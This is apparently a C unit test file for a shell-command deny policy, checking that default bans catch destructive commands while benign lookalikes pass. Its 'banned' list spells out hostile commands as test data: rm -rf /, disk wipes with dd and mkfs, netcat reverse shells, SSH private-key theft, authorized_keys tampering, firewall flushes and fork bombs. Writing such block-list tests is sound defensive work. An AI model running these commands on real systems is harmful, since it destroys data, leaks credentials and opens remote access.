/* SPDX-License-Identifier: Apache-2.0 */
/* The default bans, with what they must not catch; and exec rules. */
#include <string.h>

#include "policy/match.h"
#include "policy/shell_words.h"
#include "tests/lib/tap.h"

#define ARGV(...) ((char *[]){ __VA_ARGS__, NULL })

/* A command as its words, or one shell string. */
struct sample {
	const char *words[8];
};

static const struct sample banned[] = {
	{ { "rm", "-rf", "/" } },
	{ { "rm", "-fr", "--no-preserve-root", "/" } },
	{ { "rm", "-r", "-f", "//" } },
	{ { "rm", "--recursive", "/usr/.." } },
	{ { "/bin/rm", "-Rf", "/*" } },
	{ { "rm", "-rf", "/bin", "/boot", "/dev" } },
	{ { "rm", "-rf", "--", "/etc" } },
	{ { "rm", "-rf", "/etc/*" } },
	{ { "rm", "-rf", "/./" } },
	{ { "sudo", "rm", "-rf", "/" } },
	{ { "env", "A=1", "nice", "rm", "-rf", "/" } },
	{ { "busybox", "rm", "-rf", "/" } },
	{ { "find", "/", "-delete" } },
	{ { "chmod", "-R", "777", "/" } },
	{ { "chown", "-R", "u:u", "/etc" } },
	{ { "dd", "if=/dev/zero", "of=/dev/sda", "bs=1M" } },
	{ { "dd", "if=/dev/nvme0n1", "of=img" } },
	{ { "mkfs.ext4", "/dev/sdb1" } },
	{ { "mkfs", "-t", "ext4", "/dev/sdb1" } },
	{ { "wipefs", "-a", "/dev/vda" } },
	{ { "fdisk", "/dev/sda" } },
	{ { "shred", "/dev/sda" } },
	{ { "cp", "image", "/dev/sda" } },
	{ { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } },
	{ { "nc", "-lvpe", "/bin/sh" } },
	{ { "ncat", "--exec", "/bin/bash", "h", "1" } },
	{ { "ncat", "--sh-exec=id", "h", "1" } },
	{ { "iptables", "-F" } },
	{ { "iptables", "-A", "INPUT", "-j", "DROP" } },
	{ { "nft", "flush", "ruleset" } },
	{ { "ip", "link", "set", "eth0", "down" } },
	{ { "ip", "-6", "route", "add", "default" } },
	{ { "cat", "/home/u/.ssh/id_rsa" } },
	{ { "cp", "/root/.ssh/id_ed25519", "/tmp" } },
	{ { "tee", "/home/u/.ssh/authorized_keys" } },
	{ { "sh", "-c", "rm -rf /" } },
	{ { "bash", "-lc", "cd /tmp && sudo rm -rf /*" } },
	{ { "bash", "-euo", "pipefail", "-c", "rm -rf /" } },
	{ { "sh", "-c", "echo hi; rm \\\n -rf '/'" } },
	{ { "sh", "-c", "if true; then rm -rf \"/\"; fi" } },
	{ { "sh", "-c", "FOO=1 rm -rf /" } },
	{ { "sh", "-c", "(rm -rf /)&" } },
	{ { "sh", "-c", "cat x > /dev/sda" } },
	{ { "sh", "-c", "cat key >>/home/u/.ssh/authorized_keys" } },
	{ { "sh", "-c", "sh -c 'rm -rf /'" } },
	{ { "bash", "-c", ":(){ :|:& };:" } },
	{ { "bash", "-c", ":() { : | : & } ; :" } },
	{ { "bash", "-c", "bomb(){ bomb|bomb& };bomb" } },
	{ { "bash", "-c", "function b { b | b & }; b" } },
};

static const struct sample allowed[] = {
	{ { "rm", "-rf", "/tmp/x" } },
	{ { "rm", "-rf", "build" } },
	{ { "rm", "/" } },
	{ { "rm", "-f", "/etc" } },
	{ { "rm", "-rf", "/home/u/project" } },
	{ { "rm", "-rf", "/usr/local/lib/node_modules" } },
	{ { "rm", "-rf", "/var/lib/apt/lists" } },
	{ { "rm", "-rf", "./", "../x" } },
	{ { "echo", "rm -rf /" } },
	{ { "echo", "dd", "if=/dev/sda" } },
	{ { "git", "commit", "-m", "never rm -rf / again" } },
	{ { "grep", "-rf", "/", "x" } },
	{ { "find", ".", "-delete" } },
	{ { "find", "/", "-name", "x" } },
	{ { "chmod", "-R", "755", "/srv/app" } },
	{ { "chmod", "644", "/etc" } },
	{ { "dd", "if=/dev/zero", "of=disk.img", "bs=1M", "count=1" } },
	{ { "dd", "if=/dev/urandom", "of=/dev/null" } },
	{ { "dd", "if=/dev/stdin", "of=/dev/shm/x" } },
	{ { "mkfs.ext4", "disk.img" } },
	{ { "mkfs", "-V" } },
	{ { "cp", "/dev/null", "x" } },
	{ { "tee", "/dev/stderr" } },
	{ { "nc", "-z", "localhost", "80" } },
	{ { "nc", "-l", "8080" } },
	{ { "iptables", "-L", "-n" } },
	{ { "nft", "list", "ruleset" } },
	{ { "ip", "addr" } },
	{ { "ip", "route", "show" } },
	{ { "cat", "/home/u/.ssh/id_rsa.pub" } },
	{ { "cat", "/home/u/.ssh/config" } },
	{ { "cat", "id_rsa" } },
	{ { "sh", "-c", "echo 'rm -rf /'" } },
	{ { "sh", "-c", "echo \"rm -rf /\" # rm -rf /" } },
	{ { "sh", "-c", "rm -rf /tmp/x; echo / " } },
	{ { "sh", "-c", "echo x > /dev/null 2>&1" } },
	{ { "sh", "-c", "exec 3<>/dev/tcp/h/1" } },
	{ { "sh", "-c", "f() { g | h & }; f" } },
	{ { "sh", "-c", "f() { echo f; }; f" } },
	{ { "sh", "script.sh", "-c", "rm -rf /" } },
	{ { "sh", "-c", "unbalanced 'quote" } },
	{ { "sh", "-c", "" } },
	{ { "sh" } },
	{ { "python3", "-c", "import os" } },
};

static char *const *argv_of(const struct sample *s)
{
	return (char *const *)s->words;
}

static void test_bans(void)
{
	struct exec_verdict v;

	for (size_t i = 0; i < ARRAY_SIZE(banned); i++) {
		char *const *a = argv_of(&banned[i]);

		tap_ok(ban_denied(a[0], a, &v), "banned: %s %s %s", a[0], a[1] ? a[1] : "",
		       a[1] && a[2] ? a[2] : "");
	}
	for (size_t i = 0; i < ARRAY_SIZE(allowed); i++) {
		char *const *a = argv_of(&allowed[i]);

		if (!tap_ok(!ban_denied(a[0], a, &v), "allowed: %s %s %s", a[0], a[1] ? a[1] : "",
		            a[1] && a[2] ? a[2] : ""))
			printf("# %s: %s\n", v.rule, v.reason);
	}
}

static void test_rules(void)
{
	struct exec_rule args_rule = { .program = (char *)"dd",
		                       .id = (char *)"r1",
		                       .reason = (char *)"why" };
	struct exec_rule path_rule = { .program = (char *)"/usr/bin/cur?", .reason = (char *)"no" };
	struct exec_verdict v;
	struct policy p;

	policy_init(&p);
	if (str_list_add(&p.pool, &args_rule.args, "of=*") ||
	    str_list_add(&p.pool, &args_rule.args, "bs=*") ||
	    policy_add_exec_rule(&p, &args_rule) || policy_add_exec_rule(&p, &path_rule))
		return;
	tap_ok(exec_denied(&p.exec_deny, "/bin/dd",
	                   ARGV((char *)"dd", (char *)"of=x", (char *)"bs=1"), &v) &&
	               !strcmp(v.rule, "r1") && !strcmp(v.reason, "why"),
	       "all patterns match some argument");
	tap_ok(!exec_denied(&p.exec_deny, "/bin/dd", ARGV((char *)"dd", (char *)"of=x"), &v),
	       "one is missing");
	tap_ok(exec_denied(&p.exec_deny, "/usr/bin/curl", ARGV((char *)"x"), &v),
	       "a rule on the path");
	tap_ok(!exec_denied(&p.exec_deny, "/opt/curl", ARGV((char *)"curl"), &v),
	       "is about the path");
	policy_fini(&p);
}

struct seen {
	char text[512];
};

static bool note_command(void *ctx, const struct shell_command *c)
{
	struct seen *s = ctx;

	for (size_t i = 0; i < c->n_words; i++)
		snprintf(s->text + strlen(s->text), sizeof(s->text) - strlen(s->text), "%s%s",
		         i ? " " : "", c->words[i]);
	for (size_t i = 0; i < c->n_redirects; i++)
		snprintf(s->text + strlen(s->text), sizeof(s->text) - strlen(s->text), " >%s",
		         c->redirects[i]);
	strcat(s->text, "|");
	return true;
}

static void test_shell(void)
{
	static const struct {
		const char *in, *want;
	} v[] = {
		{ "a b  c", "a b c|" },
		{ "a;b&&c||d|e&f\ng", "a|b|c|d|e|f|g|" },
		{ "a 'b c' \"d e\" f\\ g", "a b c d e f g|" },
		{ "a # b\nc", "a|c|" },
		{ "X=1 Y=2 a X=3", "a X=3|" },
		{ "a >b 2>c <d >>e", "a >b >c >e|" },
		{ "a 2>&1", "a >1|" },
		{ "cat <<EOF", "cat EOF|" },
		{ "if a; then b; fi", "a|b|" },
		{ "'if' a", "if a|" },
		{ "(a); { b; }", "a|b|" },
		{ "", "" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(v); i++) {
		struct seen s = { "" };

		shell_for_each(v[i].in, note_command, &s);
		if (!tap_ok(!strcmp(s.text, v[i].want), "words of: %.40s", v[i].in))
			printf("# got %s\n", s.text);
	}
}

int main(void)
{
	test_bans();
	test_rules();
	test_shell();
	return tap_done();
}
